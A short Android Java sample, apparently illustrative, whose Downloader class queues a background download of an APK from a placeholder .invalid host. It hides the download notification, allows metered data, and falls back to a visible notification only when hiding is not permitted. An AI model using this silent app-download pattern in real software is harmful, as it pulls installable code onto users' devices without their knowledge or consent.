package com.ss.android.downloadlib.sample;

import android.app.DownloadManager;
import android.content.Context;
import android.net.Uri;

/** Downloads an app in the background; made up, no vendor's code. The host name can never exist (RFC 2606). */
public final class Downloader {
    private static final String ADDRESS = "https://download.ad-sample.invalid/game.apk";

    private Downloader() {}

    /** Starts the download without a visible notification. */
    public static void start(Context context) {
        DownloadManager.Request request = new DownloadManager.Request(Uri.parse(ADDRESS))
                .setMimeType(FinishedReceiver.APK)
                .setNotificationVisibility(DownloadManager.Request.VISIBILITY_HIDDEN)
                .setAllowedOverMetered(true);
        try {
            ((DownloadManager) context.getSystemService(Context.DOWNLOAD_SERVICE)).enqueue(request);
        } catch (SecurityException hiddenNeedsPermission) {
            request.setNotificationVisibility(DownloadManager.Request.VISIBILITY_VISIBLE);
            ((DownloadManager) context.getSystemService(Context.DOWNLOAD_SERVICE)).enqueue(request);
        }
    }
}
